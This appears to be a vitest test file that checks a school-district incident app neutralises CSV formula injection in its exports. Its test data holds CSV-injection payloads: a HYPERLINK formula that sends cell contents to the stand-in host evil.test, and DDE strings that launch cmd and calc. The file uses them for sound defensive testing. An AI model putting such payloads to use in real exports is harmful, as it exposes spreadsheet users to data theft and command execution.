import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { PublicTable, TransparencyReport } from '@forefront/contract';
import { INCIDENT_COLUMNS } from '../src/modules/incident-import/import.columns.js';
import { tableCsv } from '../src/modules/transparency/transparency.csv.js';
import { type Session, signIn } from './builders.js';
import { TEST_DIALECT, type TestApp, createTestApp } from './harness.js';
import { type ImportWorld, buildImportWorld, toCsv } from './incident-import.fixtures.js';

/**
 * Issue 12, item 8: OWASP CSV injection. A text cell starting with =, +, -, @, tab or carriage
 * return is written with a leading apostrophe, so a spreadsheet shows it as text instead of running
 * it; numbers stay numbers. Each test reads the file back with a CSV parser.
 */
const readRows = (text: string) => parse<Record<string, string>>(text, { columns: true, bom: true });

/**
 * Free text an officer or clerk might type, each starting with a character a spreadsheet runs (the
 * import trims cells, so a leading tab or carriage return is tried on the open-data file below).
 */
const DANGEROUS = [
  '=HYPERLINK("http://evil.test/?"&A1,"Click")',
  '+1 called the parent',
  '-2 points; see note',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=already quoted once",
];

describe(`incident CSV export on ${TEST_DIALECT}`, () => {
  let t: TestApp;
  let w: ImportWorld;
  let admin: Session;
  const exportCsv = async () =>
    (
      await t.app.inject({
        method: 'GET',
        url: `/api/districts/${w.district.id}/exports/incidents.csv`,
        headers: admin.headers,
      })
    ).body;
  const importCsv = (csv: string) =>
    t.app.inject({
      method: 'POST',
      url: `/api/districts/${w.district.id}/incidents/import`,
      headers: admin.headers,
      payload: { csv },
    });

  beforeAll(async () => {
    t = await createTestApp();
    w = await buildImportWorld(t.ctx);
    admin = await signIn(t.app, w.admin);
    const rows = DANGEROUS.map((description, i) => ({
      incident_ref: `X${i}`,
      school_nces_id: w.schools[0]!.ncesSchoolId,
      occurred_at: `2025-03-0${i + 1}T10:00:00Z`,
      location: 'classroom',
      behaviors: 'defiance',
      // The import reads '=x as =x (the export's own neutralisation); text that really starts with an
      // apostrophe before a formula character is written with one more, as the export writes it.
      description: description.startsWith("'") ? `'${description}` : description,
    }));
    const res = await importCsv(toCsv(INCIDENT_COLUMNS, rows));
    expect(res.statusCode, res.body).toBe(200);
  });

  it('writes every text cell that a spreadsheet would run with a leading apostrophe', async () => {
    const rows = readRows(await exportCsv());
    const descriptions = rows.map((r) => r.description).sort();
    expect(descriptions).toEqual(
      [
        '\'=HYPERLINK("http://evil.test/?"&A1,"Click")',
        "'+1 called the parent",
        "'-2 points; see note",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "''=already quoted once",
      ].sort(),
    );
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('imports its own export back to the text that was typed', async () => {
    const before = new Set(
      (await t.ctx.db.selectFrom('incidents').select('id').where('districtId', '=', w.district.id).execute()).map(
        (r) => r.id,
      ),
    );
    const res = await importCsv(await exportCsv());
    expect(res.statusCode, res.body).toBe(200);
    const again = await t.ctx.db
      .selectFrom('incidents')
      .select(['id', 'description'])
      .where('districtId', '=', w.district.id)
      .execute();
    expect(
      again
        .filter((r) => !before.has(r.id))
        .map((r) => r.description)
        .sort(),
    ).toEqual([...DANGEROUS].sort());
  });
});

describe('open-data CSV of a published table', () => {
  it('neutralises text cells (a school named like a formula) and leaves figures, negative ones too, as numbers', () => {
    const report = {
      scope: 'district',
      district: { id: 'd1' },
      school: null,
      year: '2024-25',
    } as unknown as TransparencyReport;
    const table = {
      key: 'referrals_by_school',
      columns: [
        { key: 'count', kind: 'count' },
        { key: 'index', kind: 'interval' },
      ],
      rows: [
        {
          key: 's1',
          label: '=cmd|"/C calc"!A0',
          cells: { count: 12, index: { estimate: -0.25, low: -0.5, high: 0.1 } },
        },
        { key: 's2', label: '-Lincoln High', cells: { count: 'suppressed', index: null } },
        { key: 's3', label: '\tTab School', cells: { count: 0, index: null } },
        { key: 's4', label: '\r=Carriage', cells: { count: 3, index: null } },
      ],
    } as unknown as PublicTable;
    const rows = readRows(tableCsv(report, table));
    const blank = {
      scope: 'district',
      scope_id: 'd1',
      year: '2024-25',
      dimension: '',
      index: '',
      index_low: '',
      index_high: '',
    };
    expect(rows).toEqual([
      {
        scope: 'district',
        scope_id: 'd1',
        year: '2024-25',
        dimension: '',
        key: 's1',
        label: '\'=cmd|"/C calc"!A0',
        count: '12',
        index: '-0.25',
        index_low: '-0.5',
        index_high: '0.1',
      },
      {
        scope: 'district',
        scope_id: 'd1',
        year: '2024-25',
        dimension: '',
        key: 's2',
        label: "'-Lincoln High",
        count: 'suppressed',
        index: '',
        index_low: '',
        index_high: '',
      },
      { ...blank, key: 's3', label: "'\tTab School", count: '0' },
      { ...blank, key: 's4', label: "'\r=Carriage", count: '3' },
    ]);
  });
});
